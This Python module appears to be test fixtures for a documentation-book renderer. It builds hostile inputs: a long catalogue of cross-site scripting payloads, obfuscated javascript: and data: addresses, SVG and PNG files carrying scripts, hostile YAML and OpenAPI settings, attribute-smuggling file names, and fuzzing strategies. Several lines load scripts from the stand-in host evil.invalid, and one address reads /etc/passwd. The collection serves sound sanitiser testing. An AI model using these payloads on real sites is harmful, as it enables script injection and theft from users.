"""Books whose authors wish their readers ill: everything that is known to make a browser run what a page only says.

`DO` is what they would run: it sets a variable, opens a dialog and asks another machine; a test listens for all three.
Entities, blanks and control characters stand where browsers have read over them (HTML 13.2, WHATWG URL 4.4).
"""

from __future__ import annotations

import struct
import zlib

from hypothesis import strategies as st

DO = "top.ran=1,alert(1)"
FAR = "//evil.invalid"
# Without quotes, brackets or an equals sign, for places that would end at one.
_BARE = "alert`1`"

TAGS = (
    f"<script>{DO}</script>",
    f"<ScRiPt/x>{DO}</sCrIpT >",
    f"<script src=https:{FAR}/x.js></script>",
    f"<script>{DO}",
    f"<<script>{DO}//<</script>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<img src=x onerror={DO}>",
    f"<img/src=x/onerror={DO}>",
    f'<img src="x" ONERROR\n=\n"{DO}">',
    f"<img src=x:{DO} onerror=eval(src)>",
    f'<img """><script>{DO}</script>">',
    f"<img src='x' onerror='{DO}' alt='\"><script>{DO}</script>'>",
    f"<image src=x onerror={DO}>",
    f"<body onload={DO}>",
    f"<svg onload={DO}>",
    f"<svg/onload={DO}/>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><script href=data:,{DO} /></svg>",
    f"<svg><a xlink:href=javascript:{DO}><text y=20>a</text></a></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{DO} /><text y=20>a</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={DO}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={DO} />#x'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{DO}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={DO}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={DO}&gt;'>",
    f"<math href=javascript:{DO}>clic</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{DO}>clic</maction></math>",
    f"<svg></p><style><a id='</style><img src=1 onerror={DO}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={DO}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={DO}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={DO}>'>",
    f"<template><script>{DO}</script></template>",
    f"<form><button formaction=javascript:{DO}>clic</button></form>",
    f"<form action=javascript:{DO}><input type=submit><input autofocus onfocus={DO}></form>",
    f"<input type=image src=x formaction=javascript:{DO}>",
    f"<isindex type=image src=1 onerror={DO}>",
    f"<iframe src=javascript:{DO}></iframe>",
    f"<iframe srcdoc='<script>{DO.replace('top', 'parent')}</script>'></iframe>",
    f"<iframe src=https:{FAR}/></iframe>",
    f"<object data=javascript:{DO}></object>",
    f"<object data='data:text/html,<script>{DO}</script>'></object>",
    f"<embed src=javascript:{DO}>",
    f"<applet code=javascript:{DO}></applet>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    f"<meta http-equiv=refresh content='0;url=https:{FAR}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href=https:{FAR}/>",
    f"<link rel=stylesheet href=https:{FAR}/x.css>",
    f"<link rel=import href=https:{FAR}/x.html>",
    f"<link rel=preload as=script href=https:{FAR}/x.js>",
    f"<style>@import 'https:{FAR}/x.css'; * {{ background: url(https:{FAR}/y) }}</style>",
    f"<style>@keyframes x {{}}</style><p style='animation:x' onanimationstart={DO}>a</p>",
    f"<p style='background:url(https:{FAR}/x)'>a</p>",
    f"<p style='width:expression({DO});-moz-binding:url(https:{FAR}/x)'>a</p>",
    f"<p style=\"position:fixed;inset:0\" onmouseover='{DO}' onclick='{DO}' onfocus='{DO}' tabindex=1>a</p>",
    f"<mark style=\"color:red'onclick='{DO}'x='\">a</mark>",
    f'<mark style="color:red;}}</style><script>{DO}</script>">a</mark>',
    f"<details open ontoggle={DO}><summary onclick={DO}>a</summary>b</details>",
    f"<video><source onerror={DO} src=x></video>",
    f"<video src=x onerror={DO} poster=javascript:{DO}></video>",
    f"<audio src=x onerror={DO}></audio>",
    f"<marquee onstart={DO}>a</marquee>",
    f"<table background=javascript:{DO}><tr><td background=https:{FAR}/x>a</td></tr></table>",
    f"<a href=javascript:{DO}>clic</a>",
    f"<a href='#' ping=https:{FAR}/p onclick={DO}>clic</a>",
    f"<a id=\"x'onclick={DO}\" name='\"><img src=x onerror={DO}>'>a</a>",
    f"<a class='button primary' data-icon='x\" onclick=\"{DO}' href=javascript:{DO}>clic</a>",
    f"<i class='fa-x\" onload=\"{DO}'>a</i>",
    f"<span data-tag=emoji data-code='<img src=x onerror={DO}>'>a</span>",
    f"<span lang='fr\" onclick=\"{DO}'>a</span>",
    f"<abbr title='\"><img src=x onerror={DO}>'>a</abbr>",
    f"<picture><source srcset='x onerror={DO}' media='(prefers-color-scheme: dark)'><img src=x></picture>",
    f"<figure><img src=x onerror={DO}><figcaption><b onclick={DO}>a</b></figcaption></figure>",
    f"<pre><code class=\"language-x'onclick='{DO}\">a</code></pre>",
    f"<!--><img src=x onerror={DO}>-->",
    f"<!--- --!><img src=x onerror={DO}> -->",
    f"<!-- handbook: ignore <script>{DO}</script> -->",
    f"<![CDATA[<img src=x onerror={DO}>]]>",
    f"<?xml-stylesheet href='javascript:{DO}'?>",
    f"<?><img src=x onerror={DO}>?>",
    f"</p/><img src=x onerror={DO}>",
    f"</ onclick={DO}><b>a</b>",
    f"<x onclick={DO} tabindex=1 onfocus={DO}>a</x>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={DO}&#62;",
    f"\\<img src=x onerror={DO}\\>",
    f"\\u003cimg src=x onerror={DO}\\u003e",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    f"＜script＞{DO}＜/script＞",
    "{{constructor.constructor('" + DO + "')()}} ${" + DO + "} {% raw %}{% endraw %}",
)

SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "&#x6A&#x61vascript:",
    "&#1;javascript:",
    "\x01javascript:",
    "\u200bjavascript:",
    "\ufeffjavascript:",
    "javascript\\:",
    "java\\script:",
    "j%61vascript:",
    "javascript%3A",
    "feed:javascript:",
    "view-source:javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html,<script>",
    "data:text/html;base64,",
    "data:image/svg+xml,<svg/onload=",
    "blob:",
    "filesystem:",
    "file:///etc/passwd#",
    "//evil.invalid/",
    "\\\\evil.invalid\\",
    "http:javascript:",
)
ADDRESSES = tuple(scheme + DO for scheme in SCHEMES)


def drawings() -> dict[str, bytes]:
    """Give SVG files that would run or fetch something, by what they would do it with."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 40"'
    label = '<text x="5" y="20">un dessin</text></svg>'
    inside = {
        "script": f"{head}><script>{DO}</script>{label}",
        "cdata": f"{head}><script><![CDATA[{DO}]]></script>{label}",
        "fetched": f'{head}><script href="https:{FAR}/x.js"/><image href="https:{FAR}/x.png"/>{label}',
        "load": f'{head} onload="{DO}">{label}',
        "link": f'{head}><a xlink:href="java&#9;script:{DO}"><rect width="90" height="40"/></a>{label}',
        "set": f'{head}><a id="a"><text y="9">x</text><set attributeName="href" to="javascript:{DO}"/></a>{label}',
        "begin": f'{head}><animate onbegin="{DO}" attributeName="x" dur="1s"/>{label}',
        "page": f'{head}><foreignObject width="90" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        f'srcdoc="&lt;script&gt;{DO}&lt;/script&gt;"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" '
        f'onerror="{DO}"/></foreignObject>{label}',
        "sheet": f"{head}><style>@import 'https:{FAR}/x.css'; text {{ fill: url(https:{FAR}/y#z) }}</style>{label}",
        "reused": f'{head}><use href="data:image/svg+xml,&lt;svg onload={DO}/&gt;#x"/>{label}',
        "prefixed": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{DO}</s:script>'
        '<s:path d="M0 0h9"/></s:svg>',
        "listened": f'{head} xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">{DO}'
        f"</handler>{label}",
        "styled": f'<?xml-stylesheet href="https:{FAR}/x.xsl" type="text/xsl"?>{head}>{label}',
    }
    return {name: text.encode() for name, text in inside.items()}


def png() -> bytes:
    """Give a picture of one pixel, behind which a script stands."""

    def piece(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = piece(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    said = piece(b"tEXt", f"Comment\0<script>{DO}</script>".encode())
    return b"\x89PNG\r\n\x1a\n" + head + said + piece(b"IDAT", zlib.compress(b"\0\0")) + piece(b"IEND", b"")


def one_line(words: str) -> str:
    """Give words that fit in a title or a cell."""
    return " ".join(words.split()).replace("|", "")


def quoted(words: str) -> str:
    """Give words as YAML takes them whole."""
    return "'" + one_line(words).replace("'", "''") + "'"


def placed(payload: str) -> str:
    """Give a payload in the places that a page has for it: alone, in a line, a cell, a list, a tag, a name."""
    line = one_line(payload)
    bare = line.replace('"', "").replace("'", "")
    return "\n\n".join(
        (
            payload,
            f"Un mot {line} et un autre.",
            f"### {line}",
            f"| {line} | b |\n| --- | --- |\n| {line} | **{line}** |",
            f"- {line}\n- [ ] {line}\n\n> {line}",
            f"<table><thead><tr><th>{line}</th></tr></thead><tr><td>{payload}</td></tr></table>",
            f"<div>\n\n{line}\n\n</div>",
            f"`{line}` et $`{line}`$ et $$\\text{{{line}}}$$",
            f"```{bare}\n{payload}\n```",
            f'{{% code title="{bare}" lineNumbers="{bare}" %}}\n```\n{payload}\n```\n{{% endcode %}}',
            f'{{% hint style="{bare}" %}}\n{line}\n{{% endhint %}}',
            f'{{% tabs %}}\n{{% tab title="{bare}" %}}\n{line}\n{{% endtab %}}\n{{% endtabs %}}',
            f"[{line}](https://exemple.fr '{bare}') ![{line}](fond.png \"{bare}\")",
            f"Une note[^n]. {{#{bare}}}\n\n[^n]: {line}",
            f"**\\[ENRICHIR @lea : {line}]** et \\[TODO {line}]",
            f"Terme\n: {line}",
        )
    )


def led(address: str) -> str:
    """Give an address in the places that a page has for one."""
    quoted_one = address.replace('"', "&quot;")
    return "\n\n".join(
        (
            f"[Un]({address}) [deux](<{address}>) ![trois]({address}) <{address}> [quatre][r]\n\n[r]: {address}",
            f'<a href="{quoted_one}">cinq</a> <img src="{quoted_one}" alt="six"> [![sept](fond.png)]({address})',
            f'{{% embed url="{quoted_one}" %}}\n\n{{% content-ref url="{quoted_one}" %}}\n[huit]({address})\n'
            "{% endcontent-ref %}",
            f'{{% file src="{quoted_one}" %}}\nneuf\n{{% endfile %}}\n\n'
            f'{{% openapi src="{quoted_one}" path="/x" method="get" %}}\n[dix]({address})\n{{% endopenapi %}}',
            f'<iframe src="{quoted_one}"></iframe>\n\n<object data="{quoted_one}"></object>\n\n'
            f'<a class="button primary" href="{quoted_one}">onze</a>',
            f"$\\href{{{address}}}{{x}}$ et $\\style{{background:url({address})}}{{y}}$",
        )
    )


def page(title: str, pieces: tuple[str, ...]) -> str:
    """Give a page of pieces, each under a heading of its own, so that none of them swallows the next."""
    return f"# {one_line(title)}\n\n" + "\n\n".join(f"## Essai {at}\n\n{one}\n" for at, one in enumerate(pieces))


EVIL = f"<img src=x onerror={DO}>"
BREAK = f"\"'></script></style></title></textarea>{EVIL}"
_SETTINGS = f"""title: {quoted(BREAK)}
subtitle: {quoted(BREAK)}
authors: [{quoted(BREAK)}]
organisation: {quoted(BREAK)}
version: {quoted(BREAK)}
licence: {quoted("javascript:" + DO)}
outputs: [html, site, epub]
logo: script.svg
print_links: true
edit_url: 'https://exemple.fr/{{file}}?"onclick="{DO}'
acronyms:
  QZX: {quoted(EVIL)}
glossary:
  Zorglub: {quoted(BREAK)}
index:
  - {{term: {quoted(EVIL)}, forms: [Zorglub]}}
markers:
  kinds:
    {quoted("x" + EVIL)}: {{words: ['[À VALIDER]'], why: {quoted(EVIL)}}}
"""
_MATTER = f"""---
title: {quoted(BREAK)}
description: {quoted(BREAK)}
icon: {quoted(BREAK)}
cover: {quoted("javascript:" + DO)}
tags: [{quoted(EVIL)}]
author: {quoted(EVIL)}
layout: {{width: {quoted(BREAK)}}}
vars: {{x: {quoted(EVIL)}}}
---

# {BREAK}

Un **[À VALIDER]** du QZX et du Zorglub : <code class="expression">page.vars.x</code>.

{{% openapi src="api.yaml" path="/x" method="get" %}}
[api.yaml](api.yaml)
{{% endopenapi %}}

```mermaid
graph TD; A["{EVIL}"] --> B; click B "javascript:{DO}"
```

{{% include "morceau.md" %}}
"""
_API = f"""openapi: 3.0.0
info: {{title: {quoted(BREAK)}, version: '1'}}
servers: [{{url: {quoted("javascript:" + DO)}}}]
paths:
  /x:
    get:
      summary: {quoted(BREAK)}
      description: {quoted(BREAK)}
      parameters: [{{name: {quoted(BREAK)}, in: query, description: {quoted(EVIL)}, schema: {{type: string}}}}]
      responses: {{'200': {{description: {quoted(BREAK)}}}}}
"""
# Names that a file system takes.
_NAMES = (
    f'a"onmouseover="{DO}" b.md',
    f"<svg onload={_BARE}>.md",
    "javascript:alert(1).md",
    "'><script>alert(1)<%2Fscript>.md",
    "{{7*7}}${7*7}.md",
)


def book(every: int = 1) -> dict[str, bytes]:
    """Give the files of a book that is hostile in all its places, with all that is known or one in so many."""
    pictures = drawings()
    shown = "\n\n".join(f"![{name}]({name}.svg)\n\n<img src='{name}.svg' width=90>" for name in pictures)
    named = 'x" onerror="top.ran=1.png'
    listed = "\n".join(f"* [{BREAK.replace(']', '')}](<{name}>)" for name in _NAMES)
    pages = ("README", "balises", "adresses", "dessins", "reglages")
    contents = "\n".join(f"* [{name} {EVIL}]({name}.md)" for name in pages)
    texts = {
        "handbook.yml": _SETTINGS,
        "SUMMARY.md": f"# {BREAK}\n\n{contents}\n\n## {BREAK}\n\n{listed}\n* [clic](javascript:{DO})\n"
        f'* [loin](https://exemple.fr/?"onclick="{DO})\n',
        "README.md": f"# {BREAK}\n\n[Dessins](dessins.md) [ici](#essai-0) <a name='{BREAK}'></a>\n",
        "balises.md": page("Balises", tuple(map(placed, TAGS[::every]))),
        "adresses.md": page("Adresses", tuple(map(led, ADDRESSES[::every]))),
        "dessins.md": f"# Dessins\n\n{shown}\n\n![nommé](<{named}>)\n\n![fond](fond.png)\n",
        "reglages.md": _MATTER,
        "morceau.md": f"{EVIL}\n\n{BREAK}\n",
        "api.yaml": _API,
        ".gitbook.yaml": f"redirects:\n  {quoted('x' + BREAK)}: README.md\n  ancien: {quoted('javascript:' + DO)}\n",
        **dict.fromkeys(_NAMES, f"# {BREAK}\n\nUn texte.\n"),
    }
    drawn = {f"{name}.svg": data for name, data in pictures.items()}
    return {**{name: text.encode() for name, text in texts.items()}, **drawn, "fond.png": png(), named: png()}


_PIECES = st.sampled_from(("<", ">", '"', "'", "`", "=", "/", "&", ";", "!--", "--", "{%", "%}", "](", ")", "\\", "\n"))
# No NUL: a file that holds one is no text, and is refused as a whole (S103).
_WORDS = st.sampled_from(
    (
        *("img", "svg", "script", "style", "a", "p", "table", "td", "math", "src", "href", "x", " ", " onerror="),
        *(
            " onload=",
            DO,
            f"https:{FAR}/",
            "javascript:",
            "data:",
            "\t",
            "\x0c",
            "é",
            "details",
            "pre",
            "code",
            "title=",
        ),
    )
)
_SOUP = st.lists(st.one_of(_PIECES, _WORDS), min_size=3, max_size=25).map("".join)
_NESTED = st.builds(lambda outer, inner: outer.replace("a</", f"{inner}</"), *(st.sampled_from(TAGS),) * 2)
_CUT = st.builds(lambda tag, at: tag[: at % len(tag)], st.sampled_from(TAGS), st.integers(1, 200))
_SPLIT = st.builds(lambda tag, word: tag.replace("=", f"{word}=", 1), st.sampled_from(TAGS), _WORDS)
_JOINED = st.builds(lambda one, other: one + other, _CUT, _SOUP)
_ADDRESSES = st.builds(
    lambda scheme, word: scheme[:4] + word.strip() + scheme[4:] + DO, st.sampled_from(SCHEMES), _WORDS
)
# Pages that nobody wrote: what is known, mixed, nested, broken off, and with words in the middle.
_PAYLOADS = st.one_of(_SOUP, _NESTED, _CUT, _SPLIT, _JOINED)
PAGES = st.builds(
    lambda tags, addresses: page("Essais", (*map(placed, tags), *map(led, addresses))),
    st.lists(_PAYLOADS, min_size=10, max_size=16),
    st.lists(_ADDRESSES, min_size=4, max_size=8),
)
